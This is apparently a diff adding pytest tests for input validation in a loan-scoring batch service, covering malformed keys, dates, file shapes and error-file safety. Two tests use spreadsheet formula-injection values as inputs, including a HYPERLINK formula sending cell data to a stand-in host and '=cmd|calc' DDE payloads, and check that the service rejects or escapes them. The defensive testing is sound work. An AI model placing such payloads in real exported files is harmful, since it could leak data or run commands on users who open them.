@@ -2,9 +2,11 @@ import subprocess
 import sys
 from pathlib import Path
 
+import numpy as np
 import pandas as pd
 import pytest
 
+from loantap.data.application_file import expected_rows
 from loantap.data.applications import FIELDS
 from loantap.errors import InputError, SchemaError
 from loantap.model.persistence import SavedModel, load_model
@@ -213,3 +215,130 @@ def test_memory_follows_the_chunk_and_not_the_file(model_folder: Path, raw_loans
         peaks.append(int(subprocess.run(words, check=True, capture_output=True, text=True).stdout))
     # Four times the rows; what grows is the allocator's slack.
     assert peaks[1] < 1.25 * peaks[0], peaks
+
+
+def test_keys_that_are_missing_or_a_formula_are_refused(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
+    keys: list = [f"L{number}" for number in range(2_000)]
+    keys[:5] = ['=HYPERLINK("http://e/?"&A1)', "+cmd|calc", "@SUM(A1)", "-12", None]
+    score_file(model, written(applications.assign(loan_id=keys), tmp_path / "in.csv"), tmp_path / "out.csv")
+    errors, scores = pd.read_csv(tmp_path / "out.csv.errors.csv"), read(tmp_path / "out.csv")
+    assert errors[["row", "rule"]].values.tolist() == [
+        [5, "missing"], [1, "begins like a formula"], [2, "begins like a formula"], [3, "begins like a formula"],
+    ]  # fmt: skip
+    assert scores["loan_id"].tolist() == keys[3:4] + keys[5:]
+    assert "HYPERLINK" not in (tmp_path / "out.csv.errors.csv").read_text()
+
+
+def test_values_that_a_spreadsheet_would_run_are_told_as_texts(
+    model: SavedModel, applications: pd.DataFrame, tmp_path: Path
+):
+    spoilt = applications.assign(purpose=["=cmd|calc", *applications["purpose"][1:]])
+    score_file(model, written(spoilt, tmp_path / "in.csv"), tmp_path / "out.csv")
+    assert pd.read_csv(tmp_path / "out.csv.errors.csv")["value"].tolist() == ["'=cmd|calc"]
+
+
+def test_months_with_a_time_zone_are_taken_and_lists_are_refused(
+    model: SavedModel, applications: pd.DataFrame, tmp_path: Path
+):
+    months = pd.to_datetime(applications["earliest_cr_line"], format="%b-%Y").dt.tz_localize("UTC")
+    zoned = applications.assign(earliest_cr_line=months)
+    score_file(model, written(zoned, tmp_path / "in.parquet"), tmp_path / "zoned.csv")
+    score_file(model, written(applications, tmp_path / "in.parquet"), tmp_path / "plain.csv")
+    assert (tmp_path / "zoned.csv").read_bytes() == (tmp_path / "plain.csv").read_bytes()
+    lists = applications.assign(purpose=[["car"]] * len(applications))
+    with pytest.raises(SchemaError, match="hold lists or records: purpose"):
+        score_file(model, written(lists, tmp_path / "in.parquet"), tmp_path / "out.csv")
+
+
+def test_a_file_that_is_no_table_is_refused_before_it_fills_the_memory(
+    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    monkeypatch.setattr("loantap.data.sources._MOST_RAGGED", 100)
+    path = written(applications.head(10), tmp_path / "in.csv")
+    path.write_text(path.read_text() + "x\n" * 101)
+    with pytest.raises(InputError, match="commas between fields"):
+        score_file(model, path, tmp_path / "out.csv")
+    assert not (tmp_path / "out.csv").exists()
+
+
+@pytest.mark.parametrize("index", ["issue_d", "loan_id", "loan_amnt"])
+def test_a_column_that_pandas_stored_as_an_index_is_read(
+    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, index: str
+):
+    keyed = applications.assign(loan_id=[f"L{number}" for number in range(len(applications))])
+    score_file(model, written(keyed, tmp_path / "in.parquet"), tmp_path / "wanted.csv")
+    keyed.set_index(index).to_parquet(tmp_path / "in.parquet")
+    score_file(model, tmp_path / "in.parquet", tmp_path / "out.csv")
+    assert (tmp_path / "out.csv").read_bytes() == (tmp_path / "wanted.csv").read_bytes()
+
+
+def test_whole_numbers_as_keys_keep_their_digits(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
+    keys = pd.array([2**53 + 1, None, *range(1_998)], dtype="Int64")
+    score_file(model, written(applications.assign(loan_id=keys), tmp_path / "in.parquet"), tmp_path / "out.parquet")
+    assert read(tmp_path / "out.parquet")["loan_id"].tolist()[:2] == [str(2**53 + 1), "0"]
+
+
+def test_the_file_of_errors_never_takes_the_place_of_another_file(
+    model: SavedModel, applications: pd.DataFrame, tmp_path: Path
+):
+    path = written(applications, tmp_path / "s.csv.errors.csv")
+    before = path.read_bytes()
+    with pytest.raises(InputError, match="expected another file than the one that is read"):
+        score_file(model, path, tmp_path / "s.csv")
+    other = written(applications, tmp_path / "in.csv")
+    with pytest.raises(InputError, match="something else is there"):
+        score_file(model, other, tmp_path / "s.csv")
+    assert path.read_bytes() == before
+    assert not (tmp_path / "s.csv").exists()
+
+
+def test_an_application_without_a_month_of_funding_among_others_is_of_this_month(
+    model: SavedModel, applications: pd.DataFrame, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+):
+    monkeypatch.setattr("loantap.serve.batch.this_month", lambda: "Dec-2016")
+    months = [None, *applications["issue_d"][1:]]
+    score_file(model, written(applications.assign(issue_d=months), tmp_path / "in.csv"), tmp_path / "gaps.csv")
+    typed = pd.to_datetime(pd.Series(months), format="%b-%Y")
+    score_file(model, written(applications.assign(issue_d=typed), tmp_path / "in.parquet"), tmp_path / "typed.csv")
+    filled = applications.assign(issue_d=["Dec-2016", *months[1:]])
+    score_file(model, written(filled, tmp_path / "in.csv"), tmp_path / "filled.csv")
+    assert (tmp_path / "gaps.csv").read_bytes() == (tmp_path / "filled.csv").read_bytes()
+    assert (tmp_path / "typed.csv").read_bytes() == (tmp_path / "filled.csv").read_bytes()
+    empty = applications.assign(issue_d=np.nan)
+    assert score_file(model, written(empty, tmp_path / "in.parquet"), tmp_path / "empty.csv").scored == 2_000
+
+
+def test_what_the_service_refuses_a_file_may_not_hold(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
+    odd = ["mar-2003", "MAR-2003", "Mar-1850", "Mar-2150"]
+    spoilt = applications.assign(earliest_cr_line=[*odd, *applications["earliest_cr_line"][4:]])
+    score_file(model, written(spoilt, tmp_path / "in.csv"), tmp_path / "out.csv")
+    errors = pd.read_csv(tmp_path / "out.csv.errors.csv")
+    assert errors["row"].tolist() == [1, 2, 3, 4]
+    assert set(errors["rule"]) == {"not a month"}
+    old = pd.to_datetime(applications["earliest_cr_line"], format="%b-%Y").astype("datetime64[s]")
+    old[0] = pd.Timestamp("1066-10-14")
+    score_file(model, written(applications.assign(earliest_cr_line=old), tmp_path / "in.parquet"), tmp_path / "old.csv")
+    assert pd.read_csv(tmp_path / "old.csv.errors.csv")["row"].tolist() == [1]
+    flags = applications.assign(pub_rec=True)
+    with pytest.raises(SchemaError, match="column 'pub_rec': not a number: 2,000 in rows 1, 2, 3"):
+        score_file(model, written(flags, tmp_path / "in.parquet"), tmp_path / "flags.csv")
+
+
+def test_all_refused_rows_are_counted(model: SavedModel, applications: pd.DataFrame, tmp_path: Path):
+    path = written(pd.concat([applications.assign(purpose="a yacht")] * 2), tmp_path / "in.csv")
+    with pytest.raises(SchemaError, match="not an allowed value: 4,000 in rows 1, 2, 3"):
+        score_file(model, path, tmp_path / "out.csv")
+
+
+@pytest.mark.parametrize("content", [b"loan_amnt,term\r1,2\r", b'"' + b"x" * 200_000 + b'",b\n1,2\n'])
+def test_a_file_of_another_form_is_named(model: SavedModel, tmp_path: Path, content: bytes):
+    (tmp_path / "in.csv").write_bytes(content)
+    with pytest.raises(InputError):
+        score_file(model, tmp_path / "in.csv", tmp_path / "out.csv")
+
+
+def test_a_bar_needs_no_file_that_can_be_counted(tmp_path: Path):
+    (tmp_path / "in.csv").write_bytes(b"a,b\n" + b'"' + b"x" * 200_000 + b'",2\n')
+    assert expected_rows(tmp_path / "in.csv") is None
+    (tmp_path / "in.csv").write_text("a,b\n" + "1,2\n" * 1_000)
+    assert expected_rows(tmp_path / "in.csv") == 1_000
